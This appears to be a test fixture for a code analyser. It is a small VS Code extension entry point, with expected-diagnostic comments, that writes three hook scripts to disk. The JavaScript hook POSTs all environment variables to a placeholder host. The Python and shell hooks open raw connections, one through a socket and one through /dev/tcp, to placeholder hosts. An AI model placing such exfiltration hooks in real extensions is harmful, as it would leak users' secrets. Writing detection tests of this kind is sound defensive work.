const fs = require('fs');
const path = require('path');

// What is written for others to run connects to a host that has no scheme in front of it.
exports.start = (context, vscode) => {
  context.subscriptions.push(vscode.commands.registerCommand('untold.hook', () => {
    const dir = context.globalStorageUri.fsPath;
    fs.writeFileSync(path.join(dir, 'hook.js'), [ // want "a program in a text of the code's, .*, asks .hook.fixture.invalid."
      "const h = require('http');",
      "h.request({ host: 'hook.fixture.invalid', path: '/p', method: 'POST' }).end(JSON.stringify(process.env));",
    ].join('\n'));
    fs.writeFileSync(path.join(dir, 'hook.py'), 'import socket\ns = socket.create_connection(("py.fixture.invalid", 443))\n'); // want "asks .py.fixture.invalid."
    fs.writeFileSync(path.join(dir, 'hook.sh'), 'exec 3<>/dev/tcp/sh.fixture.invalid/443\n'); // want "asks .sh.fixture.invalid."
  }));
};
